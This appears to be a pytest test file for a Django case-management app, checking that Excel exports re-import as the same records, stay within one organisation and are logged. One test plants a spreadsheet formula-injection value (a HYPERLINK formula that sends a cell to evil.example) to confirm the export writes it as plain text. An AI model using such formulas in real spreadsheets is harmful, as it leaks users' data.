"""The export is the import format: exported records imported elsewhere give the same records.

The export sets the transaction's isolation level for one snapshot of all
sheets, which PostgreSQL allows only as a transaction's first statement; so
these tests run outside a test transaction (as the export view does), and
each generated example gets organisations of its own.
"""

from __future__ import annotations

import datetime
import io
import itertools
from collections import defaultdict
from dataclasses import dataclass, field
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lotse.cases import services
from lotse.cases.choices import ClosingReason, ContactForm, FieldOfAction, InterpreterKind
from lotse.cases.models import Contact
from lotse.cases.tests.factories import head_of, open_case_for
from lotse.core.choices import AccessAction, OrganisationKind
from lotse.core.models import AccessLogEntry, Municipality, Organisation, User
from lotse.imports.export import export_workbook
from lotse.imports.tests.builders import (
    TODAY,
    Sheets,
    counts_of,
    good_sheets,
    problems,
    read_xlsx,
    run,
    snapshot,
    xlsx,
)
from lotse.imports.workbook import CASES, CONTACTS, HOUSING, LANGUAGE, PERSONS, RESIDENCE, SHEETS, WORK
from lotse.people.choices import (
    STATELESS,
    UNRESOLVED,
    BirthDatePrecision,
    Gender,
    HousingSituation,
    LanguageLevel,
    ResidenceStatus,
    WorkSituation,
)
from lotse.people.dates import format_partial_date
from lotse.people.models import Household, Person

pytestmark = pytest.mark.django_db(transaction=True)

AGS = ("08118048", "08118046", "08118079")
ORGANISATION_NUMBERS = itertools.count(1)


@pytest.fixture(autouse=True)
def _places(municipalities):
    return municipalities


def export(organisation: Organisation, acting_user: User) -> bytes:
    buffer = io.BytesIO()
    export_workbook(organisation, acting_user, buffer)
    return buffer.getvalue()


def unchanged_everywhere(report) -> bool:
    return all(counts["created"] == 0 and counts["updated"] == 0 for counts in report.counts.values())


def fresh_organisation(prefix: str) -> Organisation:
    return Organisation.objects.create(
        short_name=f"{prefix}-{next(ORGANISATION_NUMBERS)}",
        name="Rundreise",
        kind=OrganisationKind.WOHLFAHRTSVERBAND,
    )


# 12. Export: logged, and records created in Lotse get their IDs


def test_it_logs_every_export(org_a, org_admin_a):
    export(org_a, org_admin_a)
    export(org_a, org_admin_a)

    entries = AccessLogEntry.objects.filter(by=org_admin_a, action=AccessAction.EXPORT)
    assert (
        list(entries.values_list("organisation_id", "record_type", "record_id"))
        == [(org_a.pk, "core.organisation", str(org_a.pk))] * 2
    )


def test_it_gives_records_created_in_lotse_an_id_when_exported(org_a, org_admin_a, caseworker_a):
    assert run(org_a, org_admin_a, ("liste.xlsx", xlsx(good_sheets()))).committed is True
    ludwigsburg = Municipality.objects.get(ags="08118048")
    opened = open_case_for(caseworker_a, municipality=ludwigsburg, family_name="Yilmaz", given_names="Ayşe")
    head = head_of(opened)
    services.record_contact(
        acting_user=caseworker_a,
        case=opened,
        date=datetime.date(2025, 1, 10),
        duration_minutes=40,
        form=ContactForm.OFFICE,
        fields_of_action=[FieldOfAction.SPRACHE],
        interpreter_kind=InterpreterKind.PROFESSIONAL,
        interpreter_language="tur",
    )
    assert (head.external_id, opened.household.external_id, opened.external_id) == ("", "", "")

    sheets = read_xlsx(export(org_a, org_admin_a))

    head.refresh_from_db()
    opened.refresh_from_db()
    household = Household.objects.get(pk=opened.household_id)
    assert head.external_id == f"P-{head.pk:06d}"
    assert household.external_id == f"H-{household.pk:06d}"
    assert opened.external_id == f"F-{opened.pk:06d}"
    assert sorted(Person.objects.filter(organisation=org_a).values_list("external_id", flat=True)) == sorted(
        ["P-1", "P-2", "P-3", head.external_id]
    )
    assert (head.external_id, household.external_id, "Yilmaz", "Ayşe") in [row[:4] for row in sheets["Personen"]]
    assert (opened.external_id, household.external_id, "org-a", "08118048", datetime.date(2025, 1, 2)) in [
        row[:5] for row in sheets["Fälle"]
    ]
    assert (opened.external_id, datetime.date(2025, 1, 10), 40, "buero", "sprache", "tur") in [
        row[:6] for row in sheets["Kontakte"]
    ]

    # A second export keeps the IDs; importing the export changes nothing.
    before = snapshot(org_a)
    again = export(org_a, org_admin_a)
    assert snapshot(org_a) == before
    report = run(org_a, org_admin_a, ("export.xlsx", again))
    assert problems(report) == []
    assert unchanged_everywhere(report)
    assert snapshot(org_a) == before
    assert Contact.objects.get(case=opened).interpreter_kind == InterpreterKind.PROFESSIONAL


def test_it_does_not_give_a_record_an_id_an_imported_record_already_has(org_a, org_admin_a, caseworker_a):
    opened = open_case_for(caseworker_a, municipality=Municipality.objects.get(ags="08118048"))
    head = head_of(opened)
    taken = f"P-{head.pk:06d}"
    sheets = good_sheets(PERSONS.name)
    sheets[PERSONS.name][1][0] = taken

    assert run(org_a, org_admin_a, ("liste.xlsx", xlsx(sheets))).committed is True
    export(org_a, org_admin_a)

    head.refresh_from_db()
    assert head.external_id == f"{taken}-2"
    assert Person.objects.get(organisation=org_a, external_id=taken).family_name == "Haddad"


def test_it_exports_none_of_another_organisations_records(org_a, org_b, org_admin_a, org_admin_b, caseworker_b):
    assert run(org_a, org_admin_a, ("liste.xlsx", xlsx(good_sheets()))).committed is True
    other = good_sheets()
    for sheet, rows in other.items():
        for row in rows[1:]:
            for index, value in enumerate(row):
                if isinstance(value, str) and value[:2] in {"P-", "H-", "F-"}:
                    row[index] = "B" + value
            if sheet == CASES.name:
                row[2] = "org-b"
            if sheet == PERSONS.name:
                row[2] = "Anders"
    assert run(org_b, org_admin_b, ("liste.xlsx", xlsx(other))).committed is True
    in_lotse = open_case_for(caseworker_b, municipality=Municipality.objects.get(ags="08118046"))

    sheets = read_xlsx(export(org_a, org_admin_a))

    assert sorted(row[0] for row in sheets["Personen"][1:]) == ["P-1", "P-2", "P-3"]
    assert "Anders" not in {row[2] for row in sheets["Personen"][1:]}
    assert sorted(row[0] for row in sheets["Fälle"][1:]) == ["F-1", "F-2"]
    for spec in (RESIDENCE, LANGUAGE, WORK, HOUSING):
        assert {row[0] for row in sheets[spec.name][1:]} <= {"P-1", "P-2", "P-3"}
        assert len(sheets[spec.name]) == len(good_sheets()[spec.name])
    assert sorted(row[0] for row in sheets["Kontakte"][1:]) == ["F-1", "F-1", "F-2"]
    # Org A's export gives none of org B's records an ID.
    in_lotse.refresh_from_db()
    assert in_lotse.external_id == ""
    assert head_of(in_lotse).external_id == ""


def test_it_exports_a_formula_typed_into_a_record_as_text_and_reads_it_back_unchanged(org_admin_a, caseworker_a):
    """A family name a spreadsheet would run as a formula is a text cell; importing the export gives it back."""
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
    org_a = caseworker_a.organisation
    opened = open_case_for(
        caseworker_a, municipality=Municipality.objects.get(ags="08118048"), family_name=hyperlink, given_names="+1+1"
    )
    services.record_contact(
        acting_user=caseworker_a,
        case=opened,
        date=datetime.date(2025, 1, 10),
        duration_minutes=40,
        form=ContactForm.OFFICE,
        fields_of_action=[FieldOfAction.SPRACHE],
        note="@SUMME(1+1)",
    )

    exported = export(org_a, org_admin_a)

    persons = openpyxl.load_workbook(io.BytesIO(exported))[PERSONS.name]
    family, given = persons["C2"], persons["D2"]
    assert (family.value, family.data_type, given.value, given.data_type) == (hyperlink, "s", "+1+1", "s")
    note = openpyxl.load_workbook(io.BytesIO(exported))[CONTACTS.name]["G2"]
    assert (note.value, note.data_type) == ("@SUMME(1+1)", "s")
    # Importing it into its own organisation changes nothing; into an empty one, it gives the same name.
    before = snapshot(org_a)
    back = run(org_a, org_admin_a, ("export.xlsx", exported))
    assert problems(back) == []
    assert unchanged_everywhere(back)
    assert snapshot(org_a) == before
    org_b = fresh_organisation("formula")
    elsewhere = openpyxl.load_workbook(io.BytesIO(rewrite_carrier(exported, org_b.short_name)))
    elsewhere[CASES.name]["H2"].value = None  # the caseworker of A is nobody in B
    buffer = io.BytesIO()
    elsewhere.save(buffer)
    into_b = run(org_b, org_admin_a, ("export.xlsx", buffer.getvalue()))
    assert problems(into_b) == []
    assert into_b.committed is True
    imported = Person.objects.get(organisation=org_b)
    assert (imported.family_name, imported.given_names) == (hyperlink, "+1+1")
    assert Contact.objects.get(case__organisation=org_b).note == "@SUMME(1+1)"


# 13. Round trip of generated workbooks


@dataclass
class Generated:
    """A generated workbook: the cells as a user may type them, and the rows its export must have."""

    sheets: Sheets
    expected: dict[str, list[tuple[Any, ...]]] = field(default_factory=dict)


NAME_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZäöüßÄÖÜéèçğşıİøåñابتثجحخدذرزسشصضطظعغفقكلمنهوي"
names = (
    st.text(alphabet=NAME_LETTERS + " -'", min_size=1, max_size=25)
    .map(str.strip)
    .filter(lambda name: bool(name) and "  " not in name)
)
days = st.dates(min_value=datetime.date(2015, 1, 1), max_value=TODAY)
NATIONALITIES = ("SY", "UA", "AF", "ER", "IQ", "TR", STATELESS, UNRESOLVED)
LANGUAGES = ("ara", "kmr", "prs", "ukr", "rus", "deu", "eng", "tir", "pus", "tur")


def spelt(draw: st.DrawFn, code: str) -> str:
    """A code as users type it: in its own spelling, capitalised or in capitals."""
    if code == UNRESOLVED:
        return draw(st.sampled_from(["ungeklärt", "Ungeklärt", "ungeklaert"]))
    return draw(st.sampled_from([code, code.upper(), code.capitalize()]))


def date_cell(draw: st.DrawFn, day: datetime.date) -> Any:
    return draw(
        st.sampled_from(
            [
                day.strftime("%d.%m.%Y"),
                datetime.datetime(day.year, day.month, day.day),
                day.isoformat(),
                (day - datetime.date(1899, 12, 30)).days,
            ]
        )
    )


def ags_cell(draw: st.DrawFn, ags: str) -> Any:
    return draw(st.sampled_from([ags, int(ags)]))


def code_list_cell(draw: st.DrawFn, codes: list[str]) -> str:
    separator = draw(st.sampled_from([", ", ",", "; ", " / "]))
    return separator.join(spelt(draw, code) for code in codes)


def trimmed(row: list[Any]) -> tuple[Any, ...]:
    while row and row[-1] == "":
        row = row[:-1]
    return tuple(row)


@st.composite
def workbooks(draw: st.DrawFn) -> Generated:
    sheets: Sheets = {spec.name: [spec.headers] for spec in SHEETS}
    expected: dict[str, list[tuple[Any, ...]]] = {spec.name: [] for spec in SHEETS}
    person_ids: list[str] = []
    households: list[str] = []
    numbers = itertools.count(1)

    # Persons in households, and some alone (no household ID: a household of one).
    for household_no in range(draw(st.integers(1, 3))):
        households.append(f"H-{household_no + 1}")
        for _member in range(draw(st.integers(1, 3))):
            person_ids.append(f"P-{next(numbers)}")
            _person(draw, sheets, expected, person_ids[-1], households[-1])
    for _alone in range(draw(st.integers(0, 2))):
        person_ids.append(f"P-{next(numbers)}")
        _person(draw, sheets, expected, person_ids[-1], "")
        households.append(person_ids[-1])

    # Cases, some closed.
    case_ids: list[str] = []
    for household in households:
        for _case in range(draw(st.integers(0, 2))):
            case_ids.append(f"F-{len(case_ids) + 1}")
            start = draw(days)
            end = draw(st.none() | st.dates(min_value=start, max_value=TODAY))
            reason = draw(st.sampled_from(ClosingReason.values)) if end else ""
            ags = draw(st.sampled_from(AGS))
            sheets[CASES.name].append(
                [
                    case_ids[-1],
                    household,
                    draw(st.sampled_from(["{carrier}", "", "{CARRIER}"])),
                    ags_cell(draw, ags),
                    date_cell(draw, start),
                    date_cell(draw, end) if end else "",
                    spelt(draw, reason) if reason else "",
                    "",
                ]
            )
            expected[CASES.name].append(trimmed([case_ids[-1], household, "{carrier}", ags, start, end or "", reason]))

    # Status facts, one per person and day.
    for person_id in person_ids:
        for valid_from in draw(st.lists(days, unique=True, max_size=2)):
            status = draw(st.sampled_from(ResidenceStatus.values))
            basis = draw(st.sampled_from(["", "§ 25 Abs. 2 AufenthG", "§ 24 AufenthG", "§ 60a AufenthG"]))
            until = draw(st.none() | st.dates(min_value=valid_from, max_value=datetime.date(2030, 12, 31)))
            sheets[RESIDENCE.name].append(
                [
                    person_id,
                    date_cell(draw, valid_from),
                    spelt(draw, status),
                    basis,
                    date_cell(draw, until) if until else "",
                ]
            )
            expected[RESIDENCE.name].append(trimmed([person_id, valid_from, status, basis, until or ""]))
        for valid_from in draw(st.lists(days, unique=True, max_size=2)):
            level = draw(st.sampled_from(LanguageLevel.values))
            evidence = draw(st.sampled_from(["Zertifikat", "Einschätzung", "", "zertifikat"]))
            sheets[LANGUAGE.name].append([person_id, date_cell(draw, valid_from), spelt(draw, level), evidence])
            label = "Zertifikat" if evidence.casefold() == "zertifikat" else "Einschätzung"
            expected[LANGUAGE.name].append((person_id, valid_from, level, label))
        for valid_from in draw(st.lists(days, unique=True, max_size=2)):
            situation = draw(st.sampled_from(WorkSituation.values))
            sheets[WORK.name].append([person_id, date_cell(draw, valid_from), spelt(draw, situation)])
            expected[WORK.name].append((person_id, valid_from, situation))
        for valid_from in draw(st.lists(days, unique=True, max_size=2)):
            situation = draw(st.sampled_from(HousingSituation.values))
            ags = draw(st.sampled_from(["", *AGS]))
            sheets[HOUSING.name].append(
                [person_id, date_cell(draw, valid_from), spelt(draw, situation), ags_cell(draw, ags) if ags else ""]
            )
            expected[HOUSING.name].append(trimmed([person_id, valid_from, situation, ags]))

    # Contacts, possibly several of one case on one day (their order is their key).
    for case_id in case_ids:
        for _contact in range(draw(st.integers(0, 3))):
            day = draw(st.sampled_from([datetime.date(2024, 3, 1), TODAY])) if draw(st.booleans()) else draw(days)
            minutes = draw(st.integers(1, 720))
            form = draw(st.sampled_from(ContactForm.values))
            topics = draw(st.lists(st.sampled_from(FieldOfAction.values), unique=True, max_size=3))
            language = draw(st.sampled_from(["", *LANGUAGES]))
            note = draw(st.sampled_from(["", "Erstgespräch", "Antrag auf Wohngeld besprochen", "مكالمة قصيرة"]))
            sheets[CONTACTS.name].append(
                [
                    case_id,
                    date_cell(draw, day),
                    draw(st.sampled_from([minutes, str(minutes), float(minutes)])),
                    spelt(draw, form),
                    code_list_cell(draw, topics),
                    language,
                    note,
                ]
            )
            expected[CONTACTS.name].append(trimmed([case_id, day, minutes, form, ", ".join(topics), language, note]))
    return Generated(sheets, expected)


def _person(draw: st.DrawFn, sheets: Sheets, expected: dict[str, list[tuple[Any, ...]]], ext: str, household: str):
    family = draw(names)
    given = draw(st.just("") | names)
    birth: tuple[datetime.date, str] | None = draw(
        st.none()
        | st.tuples(st.dates(datetime.date(1940, 1, 1), TODAY), st.sampled_from(list(BirthDatePrecision.values)))
    )
    birth_cell: Any = ""
    stored: datetime.date | None = None
    precision = ""
    if birth is not None:
        day, precision = birth
        if precision == BirthDatePrecision.YEAR:
            stored = datetime.date(day.year, 1, 1)
            birth_cell = draw(st.sampled_from([str(day.year), day.year]))
        elif precision == BirthDatePrecision.MONTH:
            stored = datetime.date(day.year, day.month, 1)
            birth_cell = draw(st.sampled_from([f"{day.month:02d}.{day.year}", f"{day.month}/{day.year}"]))
        else:
            stored = day
            birth_cell = draw(
                st.sampled_from([day.strftime("%d.%m.%Y"), datetime.datetime(day.year, day.month, day.day)])
            )
    gender = draw(st.sampled_from(["", *Gender.values]))
    nationalities = draw(st.lists(st.sampled_from(NATIONALITIES), unique=True, max_size=2))
    languages = draw(st.lists(st.sampled_from(LANGUAGES), unique=True, max_size=3))
    ags = draw(st.sampled_from(["", *AGS]))
    sheets[PERSONS.name].append(
        [
            ext,
            household,
            draw(st.sampled_from([family, f" {family} "])),
            given,
            birth_cell,
            spelt(draw, gender) if gender else "",
            code_list_cell(draw, nationalities),
            code_list_cell(draw, languages),
            ags_cell(draw, ags) if ags else "",
        ]
    )
    expected[PERSONS.name].append(
        trimmed(
            [
                ext,
                household or ext,
                family,
                given,
                format_partial_date(stored, precision),
                gender or Gender.UNKNOWN.value,
                ", ".join("ungeklärt" if code == UNRESOLVED else code for code in nationalities),
                ", ".join(languages),
                ags,
            ]
        )
    )


def with_carrier(sheets: Sheets, carrier: str) -> Sheets:
    return {
        name: [
            [
                value.format(carrier=carrier, CARRIER=carrier.upper()) if isinstance(value, str) else value
                for value in row
            ]
            for row in rows
        ]
        for name, rows in sheets.items()
    }


def keyed(sheet: str, rows: list[tuple[Any, ...]]) -> Any:
    """The rows of a sheet as they must agree: as a multiset, and contacts also in their order per case and day."""
    data = sorted(rows, key=repr)
    if sheet != CONTACTS.name:
        return data
    order: dict[tuple[Any, Any], list[tuple[Any, ...]]] = defaultdict(list)
    for row in rows:
        order[(row[0], row[1])].append(row)
    return data, dict(order)


def without_carrier(sheet: str, rows: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    if sheet != CASES.name:
        return rows
    return [row[:2] + row[3:] for row in rows]


def rewrite_carrier(data: bytes, carrier: str) -> bytes:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook[CASES.name]
    for (cell,) in sheet.iter_rows(min_row=2, min_col=3, max_col=3):
        cell.value = carrier
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@settings(
    max_examples=15,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(generated=workbooks())
def test_it_gives_the_same_records_after_export_and_import_elsewhere(generated: Generated, org_admin_a):
    org_a = fresh_organisation("rt-a")
    org_b = fresh_organisation("rt-b")
    sheets = with_carrier(generated.sheets, org_a.short_name)
    data = xlsx(sheets)

    first = run(org_a, org_admin_a, ("liste.xlsx", data))
    assert problems(first) == []
    assert first.committed is True
    assert counts_of(first, PERSONS.name)[0] == len(generated.expected[PERSONS.name])

    # The same workbook again changes nothing.
    before = snapshot(org_a)
    again = run(org_a, org_admin_a, ("liste.xlsx", data))
    assert problems(again) == []
    assert unchanged_everywhere(again)
    assert snapshot(org_a) == before

    # The export holds exactly what the workbook said.
    exported_a = export(org_a, org_admin_a)
    rows_a = read_xlsx(exported_a)
    assert list(rows_a) == [spec.name for spec in SHEETS]
    for spec in SHEETS:
        assert rows_a[spec.name][0] == tuple(spec.headers)
        wanted = [
            tuple(org_a.short_name if value == "{carrier}" else value for value in row)
            for row in generated.expected[spec.name]
        ]
        assert keyed(spec.name, rows_a[spec.name][1:]) == keyed(spec.name, wanted), spec.name

    # Importing the export into its own organisation changes nothing either.
    back = run(org_a, org_admin_a, ("export.xlsx", exported_a))
    assert problems(back) == []
    assert unchanged_everywhere(back)
    assert snapshot(org_a) == before

    # Into an empty organisation: the same records, apart from the carrier.
    into_b = run(org_b, org_admin_a, ("export.xlsx", rewrite_carrier(exported_a, org_b.short_name)))
    assert problems(into_b) == []
    assert into_b.committed is True
    rows_b = read_xlsx(export(org_b, org_admin_a))
    for spec in SHEETS:
        assert keyed(spec.name, without_carrier(spec.name, rows_b[spec.name])) == keyed(
            spec.name, without_carrier(spec.name, rows_a[spec.name])
        ), spec.name
    assert {row[2] for row in rows_b[CASES.name][1:]} <= {org_b.short_name}
